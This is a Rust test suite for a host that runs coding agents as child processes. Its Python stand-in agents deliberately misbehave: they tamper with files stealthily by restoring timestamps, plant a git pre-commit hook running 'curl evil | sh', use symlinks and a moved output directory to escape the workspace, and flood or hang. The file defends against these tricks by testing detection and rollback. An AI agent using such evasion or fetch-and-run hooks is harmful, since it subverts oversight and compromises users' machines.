//! Agent blocks against real child processes: small Python agents written
//! into a temporary workspace.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use wfhost_core::agents::block_output::{BlockOutputStatus, BlockType};
use wfhost_exec::agent::{
    AgentExecutor, AgentOutcome, AgentRequest, PromptDelivery, Protocol, ViolationPolicy, run_agent,
};
use wfhost_exec::{BundleMeta, ExecError};

const AGENT_ID: &str = "dev.implement";

/// A Python agent; `body` runs after the preamble, which sets `out` to
/// the output path and `prompt` to what arrived on stdin.
fn agent(dir: &Path, name: &str, body: &str) -> PathBuf {
    let path = dir.join(name);
    let script = format!(
        "#!/usr/bin/env python3\nimport json, os, sys, time\nout = os.path.join(os.environ['OUTPUT_DIR'], 'block-' + os.environ['NODE_ID'] + '.json')\n{body}\n"
    );
    std::fs::write(&path, script).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// The Python that writes a valid dev output claiming `modified` and
/// `created`.
fn write_output(status: &str, modified: &[&str], created: &[&str]) -> String {
    format!(
        "json.dump({{'blockId': os.environ['NODE_ID'], 'blockType': 'dev', 'status': '{status}', \
         'deliverables': {{'blockType': 'code', 'filesChanged': [], 'diffSummary': 'd'}}, \
         'summary': 'did it', 'filesModified': {modified:?}, 'filesCreated': {created:?}, \
         'timestamp': '2026-11-22T10:00:00Z'}}, open(out, 'w'))"
    )
}

struct Fixture {
    ws: tempfile::TempDir,
    agents: tempfile::TempDir,
}

fn fixture() -> Fixture {
    let ws = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(ws.path().join("src")).unwrap();
    std::fs::write(ws.path().join("src/lib.rs"), "fn a() {}\n").unwrap();
    std::fs::write(ws.path().join("README.md"), "readme\n").unwrap();
    Fixture {
        ws,
        agents: tempfile::tempdir().unwrap(),
    }
}

impl Fixture {
    fn request(&self, program: &Path) -> AgentRequest {
        let ws = self.ws.path().canonicalize().unwrap();
        let output_dir = ws.join(".output").display().to_string();
        AgentRequest {
            argv: vec![program.display().to_string()],
            prompt: "RULES\n\nYou are a dev.\n\nDo the task.".into(),
            delivery: PromptDelivery::Stdin,
            protocol: Protocol::BlockOutput,
            input_json: None,
            env: vec![
                ("WORKFLOW_ID".into(), "wf".into()),
                ("EXECUTION_ID".into(), "run-1".into()),
                ("NODE_ID".into(), AGENT_ID.into()),
                ("STEP_INDEX".into(), "3".into()),
                ("FILE_RESTRICTIONS".into(), r#"["src/**"]"#.into()),
                ("TELEMETRY_ENABLED".into(), "0".into()),
                ("TELEMETRY_URL".into(), String::new()),
                ("OUTPUT_DIR".into(), output_dir),
                ("PREVIOUS_BLOCK_ID".into(), "plan.write".into()),
            ],
            extra_env: vec![("EXTRA".into(), "yes".into())],
            workspace: ws.clone(),
            agent_id: AGENT_ID.into(),
            block_type: BlockType::Dev,
            restrictions: Some(vec!["src/**".into()]),
            on_violation: ViolationPolicy::Rollback,
            executor: AgentExecutor::Local,
            bundle_dir: ws.join(".output/agent/run-1/step-3"),
            meta: BundleMeta {
                agent_id: String::new(),
                run_id: "run-20260101-000000-000a9e".parse().unwrap(),
                stage_id: String::new(),
                step: 3,
                attempt: 1,
            },
            deadline: Some(Instant::now() + Duration::from_secs(30)),
            output_cap: 1 << 20,
            result_format: None,
            mask: Default::default(),
            model: None,
            usage_before: None,
            role: None,
        }
    }

    fn run(&self, request: AgentRequest) -> AgentOutcome {
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(run_agent(request))
            .unwrap()
    }

    fn read(&self, rel: &str) -> String {
        std::fs::read_to_string(self.ws.path().join(rel)).unwrap()
    }

    fn written_output(&self) -> serde_json::Value {
        serde_json::from_str(&self.read(&format!(".output/block-{AGENT_ID}.json"))).unwrap()
    }
}

#[test]
fn the_child_sees_the_env_contract_and_the_prompt_on_stdin() {
    let f = fixture();
    let program = agent(
        f.agents.path(),
        "dump.py",
        &format!(
            "prompt = sys.stdin.read()\nkeys = ['WORKFLOW_ID','EXECUTION_ID','NODE_ID','STEP_INDEX','FILE_RESTRICTIONS','TELEMETRY_ENABLED','TELEMETRY_URL','OUTPUT_DIR','PREVIOUS_BLOCK_ID','EXTRA']\n\
             json.dump({{'env': {{k: os.environ.get(k) for k in keys}}, 'prompt': prompt, 'cwd': os.getcwd(), 'argv': sys.argv[1:]}}, open(os.path.join(os.environ['OUTPUT_DIR'], 'seen.json'), 'w'))\n{}",
            write_output("completed", &[], &[])
        ),
    );
    let outcome = f.run(f.request(&program));
    assert_eq!(outcome.defect, None);
    assert_eq!(outcome.output.status, BlockOutputStatus::Completed);
    let seen: serde_json::Value = serde_json::from_str(&f.read(".output/seen.json")).unwrap();
    let ws = f.ws.path().canonicalize().unwrap();
    assert_eq!(seen["env"]["NODE_ID"], AGENT_ID);
    assert_eq!(seen["env"]["STEP_INDEX"], "3");
    assert_eq!(seen["env"]["FILE_RESTRICTIONS"], r#"["src/**"]"#);
    assert_eq!(seen["env"]["PREVIOUS_BLOCK_ID"], "plan.write");
    assert_eq!(seen["env"]["TELEMETRY_ENABLED"], "0");
    assert_eq!(seen["env"]["TELEMETRY_URL"], "");
    assert_eq!(seen["env"]["EXTRA"], "yes");
    assert_eq!(
        seen["env"]["OUTPUT_DIR"],
        ws.join(".output").display().to_string()
    );
    assert_eq!(seen["cwd"], ws.display().to_string());
    assert_eq!(seen["prompt"], "RULES\n\nYou are a dev.\n\nDo the task.");
}

#[test]
fn the_prompt_as_an_argument_or_a_file() {
    let f = fixture();
    let program = agent(
        f.agents.path(),
        "args.py",
        &format!(
            "pf = os.environ.get('AGENT_PROMPT_FILE')\n\
             json.dump({{'argv': sys.argv[1:], 'file': open(pf).read() if pf else None}}, open(os.path.join(os.environ['OUTPUT_DIR'], 'seen.json'), 'w'))\n{}",
            write_output("completed", &[], &[])
        ),
    );
    let seen = |f: &Fixture| -> serde_json::Value {
        serde_json::from_str(&f.read(".output/seen.json")).unwrap()
    };
    // Appended when the argv has no placeholder.
    let mut r = f.request(&program);
    r.delivery = PromptDelivery::Argument;
    r.argv.push("--print".into());
    f.run(r);
    assert_eq!(
        seen(&f)["argv"],
        serde_json::json!(["--print", "RULES\n\nYou are a dev.\n\nDo the task."])
    );
    // Placed where `{prompt}` is.
    let mut r = f.request(&program);
    r.delivery = PromptDelivery::Argument;
    r.argv
        .extend(["-p".into(), "{prompt}".into(), "--json".into()]);
    r.bundle_dir = r.bundle_dir.with_file_name("step-3b");
    f.run(r);
    assert_eq!(
        seen(&f)["argv"][1],
        "RULES\n\nYou are a dev.\n\nDo the task."
    );
    assert_eq!(seen(&f)["argv"][2], "--json");
    // In a file, named by the placeholder and the variable.
    let mut r = f.request(&program);
    r.delivery = PromptDelivery::File;
    r.argv
        .extend(["--prompt-file".into(), "{prompt-file}".into()]);
    r.bundle_dir = r.bundle_dir.with_file_name("step-3c");
    f.run(r);
    let s = seen(&f);
    assert_eq!(s["file"], "RULES\n\nYou are a dev.\n\nDo the task.");
    assert!(
        s["argv"][1].as_str().unwrap().ends_with(".prompt.md"),
        "{s}"
    );
}

#[test]
fn a_valid_output_is_kept_and_claims_are_compared_with_the_workspace() {
    let f = fixture();
    let program = agent(
        f.agents.path(),
        "dev.py",
        &format!(
            "open('src/lib.rs', 'a').write('fn b() {{}}\\n')\nopen('src/new.rs', 'w').write('x')\n{}",
            // Claims a file it did not touch and forgets the one it created.
            write_output("partial", &["src/lib.rs", "src/other.rs"], &[])
        ),
    );
    let outcome = f.run(f.request(&program));
    assert_eq!(outcome.defect, None);
    assert_eq!(outcome.output.status, BlockOutputStatus::Partial);
    assert_eq!(outcome.modified, ["src/lib.rs"]);
    assert_eq!(outcome.created, ["src/new.rs"]);
    assert_eq!(outcome.mismatch.unreported_created, ["src/new.rs"]);
    assert_eq!(outcome.mismatch.claimed_not_modified, ["src/other.rs"]);
    assert!(outcome.violations.is_empty());
    assert_eq!(f.written_output()["status"], "partial");
}

fn expect_synthetic(f: &Fixture, outcome: &AgentOutcome, why: &str) {
    let defect = outcome.defect.as_deref().unwrap_or_default();
    assert!(defect.contains(why), "`{why}` not in `{defect}`");
    assert_eq!(outcome.output.status, BlockOutputStatus::Failed);
    let written = f.written_output();
    assert_eq!(written["status"], "failed");
    assert_eq!(written["blockId"], AGENT_ID);
    assert!(written["summary"].as_str().unwrap().contains(why));
}

#[test]
fn every_output_defect_becomes_a_synthetic_failure() {
    let cases: &[(&str, &str, &str)] = &[
        ("missing", "pass", "wrote no"),
        (
            "bad-json",
            "open(out, 'w').write('{not json')",
            "not valid block output JSON",
        ),
        (
            "wrong-id",
            &write_output("completed", &[], &[]).replace("os.environ['NODE_ID']", "'someone.else'"),
            "is for block `someone.else`",
        ),
        (
            "bad-status",
            &write_output("done", &[], &[]),
            "not valid block output JSON",
        ),
        (
            // A link to a file outside the workspace is never followed.
            "symlink",
            "os.symlink('/etc/hostname', out)",
            "is a symbolic link, not a regular file",
        ),
        (
            // A FIFO would block a reader forever.
            "fifo",
            "os.mkfifo(out)",
            "not a regular file",
        ),
        (
            "huge",
            "open(out, 'w').write(' ' * (5 << 20))",
            "larger than the limit of 4 MiB",
        ),
        (
            "non-zero",
            &format!("{}\nsys.exit(3)", write_output("completed", &[], &[])),
            "exited with code 3",
        ),
    ];
    for (name, body, why) in cases {
        let f = fixture();
        let program = agent(f.agents.path(), &format!("{name}.py"), body);
        let outcome = f.run(f.request(&program));
        expect_synthetic(&f, &outcome, why);
        if *name == "bad-json" {
            assert_eq!(
                f.read(&format!(".output/block-{AGENT_ID}.rejected.json")),
                "{not json"
            );
        }
    }
}

#[test]
fn an_output_left_by_an_earlier_attempt_does_not_count() {
    let f = fixture();
    let good = agent(
        f.agents.path(),
        "good.py",
        &write_output("completed", &[], &[]),
    );
    assert_eq!(f.run(f.request(&good)).defect, None);
    let lazy = agent(f.agents.path(), "lazy.py", "pass");
    let mut r = f.request(&lazy);
    r.bundle_dir = r.bundle_dir.with_file_name("step-4");
    let outcome = f.run(r);
    expect_synthetic(&f, &outcome, "wrote no");
}

#[test]
fn changes_outside_the_restrictions_are_rolled_back() {
    let f = fixture();
    let program = agent(
        f.agents.path(),
        "escape.py",
        &format!(
            "open('README.md', 'w').write('defaced')\nopen('evil.txt', 'w').write('x')\n\
             os.remove('src/lib.rs')\nopen('src/ok.rs', 'w').write('ok')\n{}",
            write_output("completed", &[], &["src/ok.rs"])
        ),
    );
    let outcome = f.run(f.request(&program));
    assert!(outcome.rolled_back);
    assert_eq!(outcome.violations, ["README.md", "evil.txt"]);
    assert_eq!(f.read("README.md"), "readme\n");
    assert!(!f.ws.path().join("evil.txt").exists());
    // Changes inside the restrictions stay.
    assert_eq!(f.read("src/ok.rs"), "ok");
    assert!(!f.ws.path().join("src/lib.rs").exists());
    assert_eq!(outcome.created, ["src/ok.rs"]);
    assert_eq!(outcome.removed, ["src/lib.rs"]);
}

#[test]
fn stealthy_changes_outside_the_restrictions_are_seen_and_rolled_back() {
    let f = fixture();
    std::fs::create_dir_all(f.ws.path().join(".git/hooks")).unwrap();
    std::fs::write(f.ws.path().join("notes.txt"), "original").unwrap();
    std::fs::write(f.ws.path().join("tool.sh"), "echo hi\n").unwrap();
    let program = agent(
        f.agents.path(),
        "stealth.py",
        &format!(
            // Same size, modification time put back; a mode change; a
            // hook git would run on the user's next commit.
            "st = os.stat('notes.txt')\nopen('notes.txt', 'w').write('REWRITES')\n\
             os.utime('notes.txt', ns=(st.st_atime_ns, st.st_mtime_ns))\n\
             os.chmod('tool.sh', 0o777)\n\
             open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n{}",
            write_output("completed", &[], &[])
        ),
    );
    let outcome = f.run(f.request(&program));
    let stderr = std::fs::read_to_string(outcome.exec.bundle_dir.join("cmd-1.stderr"));
    assert!(outcome.rolled_back, "{outcome:?} {stderr:?}");
    assert_eq!(
        outcome.violations,
        [".git/hooks/pre-commit", "notes.txt", "tool.sh"]
    );
    assert_eq!(f.read("notes.txt"), "original");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(f.ws.path().join("tool.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_ne!(mode & 0o777, 0o777, "the chmod was undone");
    assert!(!f.ws.path().join(".git/hooks/pre-commit").exists());
}

#[test]
fn with_the_fail_policy_violations_stay_for_inspection() {
    let f = fixture();
    let program = agent(
        f.agents.path(),
        "escape.py",
        &format!(
            "open('README.md', 'w').write('defaced')\n{}",
            write_output("completed", &["README.md"], &[])
        ),
    );
    let mut r = f.request(&program);
    r.on_violation = ViolationPolicy::Fail;
    let outcome = f.run(r);
    assert!(!outcome.rolled_back);
    assert_eq!(outcome.violations, ["README.md"]);
    assert_eq!(f.read("README.md"), "defaced");
}

#[test]
fn a_flood_on_stdout_is_capped_and_a_hang_is_killed() {
    let f = fixture();
    let flood = agent(
        f.agents.path(),
        "flood.py",
        &format!(
            "sys.stdout.write('x' * (5 << 20))\nsys.stdout.flush()\n{}",
            write_output("completed", &[], &[])
        ),
    );
    let outcome = f.run(f.request(&flood));
    assert_eq!(outcome.defect, None);
    let c = &outcome.exec.commands[0];
    assert!(c.stdout_truncated);
    assert_eq!(
        std::fs::metadata(outcome.exec.bundle_dir.join(&c.stdout))
            .unwrap()
            .len(),
        1 << 20
    );

    let hang = agent(f.agents.path(), "hang.py", "time.sleep(600)");
    let mut r = f.request(&hang);
    r.bundle_dir = r.bundle_dir.with_file_name("step-9");
    r.deadline = Some(Instant::now() + Duration::from_millis(800));
    let started = Instant::now();
    let outcome = f.run(r);
    assert!(started.elapsed() < Duration::from_secs(20));
    assert!(outcome.exec.commands[0].timed_out);
    expect_synthetic(&f, &outcome, "timed out");
}

#[test]
fn the_json_protocol_takes_only_json_on_stdout() {
    let f = fixture();
    let answer = r#"{"status": "OK", "summary": "done", "artifacts": {"files_changed": ["src/lib.rs"]}, "gates": {"meets_definition_of_done": true, "needs_review": false, "needs_tests": false, "security_concerns": []}}"#;
    let input = r#"{"task": {"id": "T-1", "title": "t", "goal": "g"}, "project_type": "other", "repo_state": {"branch": "main", "ci_status": "unknown"}, "tools_available": []}"#;
    let good = agent(
        f.agents.path(),
        "json_answer.py",
        &format!(
            "data = json.load(sys.stdin)\nassert data['task']['id'] == 'T-1'\nopen('src/lib.rs', 'a').write('//\\n')\nprint('{answer}')"
        ),
    );
    let mut r = f.request(&good);
    r.protocol = Protocol::Json;
    r.input_json = Some(input.into());
    r.delivery = PromptDelivery::Argument;
    let outcome = f.run(r);
    let stderr = std::fs::read_to_string(
        outcome
            .exec
            .bundle_dir
            .join(&outcome.exec.commands[0].stderr),
    )
    .unwrap_or_default();
    assert_eq!(outcome.defect, None, "{stderr}");
    let parsed = outcome.protocol.unwrap().unwrap();
    assert_eq!(parsed.summary, "done");
    assert_eq!(outcome.output.status, BlockOutputStatus::Completed);
    assert_eq!(f.written_output()["filesModified"][0], "src/lib.rs");

    let prose = agent(
        f.agents.path(),
        "prose.py",
        &format!("sys.stdin.read()\nprint('Sure! Here is the JSON:')\nprint('{answer}')"),
    );
    let mut r = f.request(&prose);
    r.protocol = Protocol::Json;
    r.input_json = Some(input.into());
    r.delivery = PromptDelivery::Argument;
    r.bundle_dir = r.bundle_dir.with_file_name("step-5");
    let outcome = f.run(r);
    assert!(matches!(outcome.protocol, Some(Err(_))));
    expect_synthetic(&f, &outcome, "protocol error");
}

#[test]
fn requests_that_cannot_run_are_refused_before_anything_happens() {
    let f = fixture();
    let program = agent(f.agents.path(), "ok.py", "pass");
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    // The json protocol needs stdin for its input.
    let mut r = f.request(&program);
    r.protocol = Protocol::Json;
    r.input_json = Some("{}".into());
    assert!(matches!(rt.block_on(run_agent(r)), Err(ExecError::Invalid(m)) if m.contains("stdin")));
    // Shells are refused by the exec policy.
    let mut r = f.request(&program);
    r.argv = vec!["/bin/sh".into(), "-c".into(), "true".into()];
    assert!(matches!(
        rt.block_on(run_agent(r)),
        Err(ExecError::Refused(_))
    ));
    // Bad restrictions.
    let mut r = f.request(&program);
    r.restrictions = Some(vec!["../x".into()]);
    assert!(matches!(
        rt.block_on(run_agent(r)),
        Err(ExecError::Invalid(_))
    ));
    // Nothing was written.
    assert!(!f.ws.path().join(".output/agent").exists());
}

#[test]
fn the_host_never_writes_the_block_output_through_a_link_the_agent_planted() {
    let f = fixture();
    let outside = tempfile::tempdir().unwrap();
    // The agent moves `.output` away and leaves a link to a directory of
    // the host's user in its place, then writes no output: the host's
    // synthetic failure must not land there.
    let program = agent(
        f.agents.path(),
        "planter.py",
        &format!(
            "ws = os.getcwd()\nos.rename(os.path.join(ws, '.output'), os.path.join(ws, 'moved'))\nos.symlink({:?}, os.path.join(ws, '.output'))",
            outside.path().display().to_string()
        ),
    );
    let mut request = f.request(&program);
    request.on_violation = ViolationPolicy::Fail;
    let _ = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(run_agent(request));
    let leaked: Vec<_> = std::fs::read_dir(outside.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert!(leaked.is_empty(), "written outside: {leaked:?}");
    assert!(f.ws.path().join("moved").is_dir(), "the agent did not run");
}

/// A stand-in for a preset's CLI: prints `stdout` (Python expression) and
/// exits with `code`.
fn result_printer(f: &Fixture, name: &str, stdout: &str, code: i32) -> PathBuf {
    agent(
        f.agents.path(),
        name,
        &format!(
            "sys.stdin.read()\nsys.stdout.write({stdout})\nsys.stdout.flush()\nsys.exit({code})"
        ),
    )
}

#[test]
fn a_presets_adapter_writes_the_block_output_from_the_final_result() {
    let f = fixture();
    let result = r#"'{"type":"result","is_error":false,"result":"Done.","session_id":"s-1","total_cost_usd":0.5,"usage":{"input_tokens":10,"output_tokens":5,"cache_read_input_tokens":2},"modelUsage":{"m-1":{}}}'"#;
    let program = result_printer(&f, "ok.py", result, 0);
    let mut request = f.request(&program);
    request.result_format = Some(wfhost_core::agents::presets::ResultFormat::Claude);
    let outcome = f.run(request);
    assert_eq!(outcome.defect, None);
    assert_eq!(outcome.output.status, BlockOutputStatus::Completed);
    let usage = outcome.output.usage.as_ref().unwrap();
    assert_eq!((usage.tokens(), usage.model.as_deref()), (17, Some("m-1")));
    let written = f.written_output();
    assert_eq!(written["summary"], "Done.");
    assert_eq!(written["usage"]["sessionId"], "s-1");
    assert_eq!(written["usage"]["costUsd"], 0.5);
}

#[test]
fn a_presets_adapter_fails_with_the_reason_and_keeps_the_usage() {
    let f = fixture();
    let error = r#"'{"type":"result","is_error":true,"result":"API Error: 529 overloaded","usage":{"input_tokens":7}}'"#;
    for (name, stdout, code, why) in [
        (
            "err.py",
            error,
            1,
            "the agent exited with code 1; the agent reported an error: API Error: 529 overloaded",
        ),
        (
            "err0.py",
            error,
            0,
            "the agent reported an error: API Error: 529 overloaded",
        ),
        (
            "cut.py",
            r#"'{"type":"result","result":"Do'"#,
            0,
            "not one JSON object",
        ),
        (
            "bytes.py",
            r#"'' if sys.stdout.buffer.write(b'{\xff\xfe}') else ''"#,
            0,
            "not UTF-8",
        ),
        ("none.py", "''", 0, "the CLI printed no final result"),
        // Killed mid-stream: no result, the usage it streamed is kept.
        (
            "streamed.py",
            r#"'{"type":"assistant","message":{"id":"m1","usage":{"input_tokens":7}}}\n'"#,
            1,
            "the agent exited with code 1; the CLI printed no final result",
        ),
        // Over the output cap (1 MiB here): the final result is lost.
        (
            "flood.py",
            "'x' * (3 << 20)",
            0,
            "exceeded 1048576 bytes; its final result was lost",
        ),
    ] {
        let program = result_printer(&f, name, stdout, code);
        let mut request = f.request(&program);
        request.result_format = Some(wfhost_core::agents::presets::ResultFormat::Claude);
        request.bundle_dir = f.ws.path().join(format!(".output/agent/run-1/{name}"));
        let outcome = f.run(request);
        assert_eq!(outcome.output.status, BlockOutputStatus::Failed, "{name}");
        let defect = outcome.defect.clone().unwrap_or_default();
        assert!(defect.contains(why), "{name}: {defect}");
        let written = f.written_output();
        assert_eq!(written["status"], "failed", "{name}");
        if name.starts_with("err") || name == "streamed.py" {
            assert_eq!(
                written["usage"]["inputTokens"], 7,
                "{name}: the tokens were spent"
            );
        }
    }
}

#[test]
fn any_cli_reports_usage_in_its_own_block_output() {
    let f = fixture();
    let body = write_output("completed", &[], &[]).replace(
        "'timestamp'",
        "'usage': {'inputTokens': 3, 'outputTokens': 4, 'model': 'x'}, 'timestamp'",
    );
    let program = agent(f.agents.path(), "usage.py", &body);
    let outcome = f.run(f.request(&program));
    assert_eq!(outcome.defect, None);
    assert_eq!(outcome.output.usage.as_ref().map(|u| u.tokens()), Some(7));
    // A usage that is not one is a malformed output.
    let body = write_output("completed", &[], &[])
        .replace("'timestamp'", "'usage': {'inputTokens': -3}, 'timestamp'");
    let program = agent(f.agents.path(), "bad_usage.py", &body);
    let mut request = f.request(&program);
    request.bundle_dir = f.ws.path().join(".output/agent/run-1/bad");
    let outcome = f.run(request);
    assert!(
        outcome
            .defect
            .as_deref()
            .is_some_and(|d| d.contains("usage.inputTokens")),
        "{:?}",
        outcome.defect
    );
}
